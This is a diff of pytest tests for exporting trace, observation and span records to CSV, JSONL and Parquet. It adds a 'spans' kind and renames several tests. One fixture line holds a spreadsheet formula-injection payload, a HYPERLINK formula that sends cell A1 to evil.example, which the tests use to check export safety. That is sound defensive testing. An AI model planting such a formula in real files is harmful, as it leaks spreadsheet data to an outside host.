@@ -11,7 +11,7 @@ import pytest
 
 pytestmark = pytest.mark.usefixtures("db", "clickhouse_schema")
 
-KOREAN = "환불 정책을 알려 주세요\n둘째 줄, \"인용\" 😀"
+KOREAN = '환불 정책을 알려 주세요\n둘째 줄, "인용" 😀'
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"x")'
 
 
@@ -90,8 +90,8 @@ def test_parquet_is_read_by_another_program_with_its_types(two_traces, exported,
     assert (old["cost_usd"], old["user_id"], old["name"]) == (None, None, HOSTILE)
 
 
-def test_observations_are_those_of_the_traces_that_match(two_traces, exported):
-    found = lines(exported("jsonl", "level:ERROR", kind="observations"))
+def test_observations_of_traces_are_all_of_those_that_match(two_traces, exported):
+    found = lines(exported("jsonl", "level:ERROR", kind="spans"))
     assert [one["id"] for one in found] == ["root", "tool"]
     assert found[0]["input"] == KOREAN
     assert found[0]["cost_usd"] == "0.000000012"
@@ -102,8 +102,13 @@ def test_observations_are_those_of_the_traces_that_match(two_traces, exported):
     )  # fmt: skip
 
 
+def test_observations_are_those_that_match_themselves(two_traces, exported):
+    [found] = lines(exported("jsonl", "level:ERROR", kind="observations"))
+    assert (found["id"], found["input"], found["cost_usd"]) == ("root", KOREAN, "0.000000012")
+
+
 @pytest.mark.parametrize("format_", ["csv", "jsonl", "parquet"])
-@pytest.mark.parametrize("kind", ["traces", "observations"])
+@pytest.mark.parametrize("kind", ["traces", "observations", "spans"])
 def test_nothing_found_is_an_empty_file_that_can_be_read(exported, tmp_path, format_, kind):
     content = exported(format_, kind=kind)
     readers = {"csv": table, "jsonl": lines, "parquet": lambda c: parquet(c, tmp_path)}
@@ -124,8 +129,9 @@ def test_superseded_deleted_and_strange_rows_are_left_out(span, exported, organi
     insert_spans([Span(other.id, "foreign", "s", mine.start_time)])
     [one] = lines(exported("jsonl"))
     assert (one["id"], one["input"]) == ("t", "after")
-    [seen] = lines(exported("jsonl", kind="observations"))
-    assert (seen["trace_id"], seen["input"]) == ("t", "after")
+    for kind in ("observations", "spans"):
+        [seen] = lines(exported("jsonl", kind=kind))
+        assert (seen["trace_id"], seen["input"]) == ("t", "after")
 
 
 def test_text_that_no_file_could_hold_does_no_harm(span, exported, tmp_path):
@@ -144,7 +150,7 @@ def test_many_traces_come_newest_first_and_each_once(span, exported, tmp_path, m
     from exports import exporting
     from exports.models import Kind
 
-    monkeypatch.setattr(exporting, "TRACES_AT_ONCE", dict.fromkeys(Kind, 7))
+    monkeypatch.setattr(exporting, "AT_ONCE", dict.fromkeys(Kind, 7))
     monkeypatch.setattr(exporting, "LINES_AT_ONCE", 4)
     for n in range(30):
         span(f"t{n:02}", "s", at=-n, input=str(n))
@@ -153,4 +159,6 @@ def test_many_traces_come_newest_first_and_each_once(span, exported, tmp_path, m
     assert [one["id"] for one in table(exported("csv"))] == expected
     assert [one["id"] for one in parquet(exported("parquet"), tmp_path)] == expected
     found = lines(exported("jsonl", kind="observations"))
+    assert [one["input"] for one in found] == list(map(str, range(30)))
+    found = lines(exported("jsonl", kind="spans"))
     assert sorted(one["input"] for one in found) == sorted(map(str, range(30)))
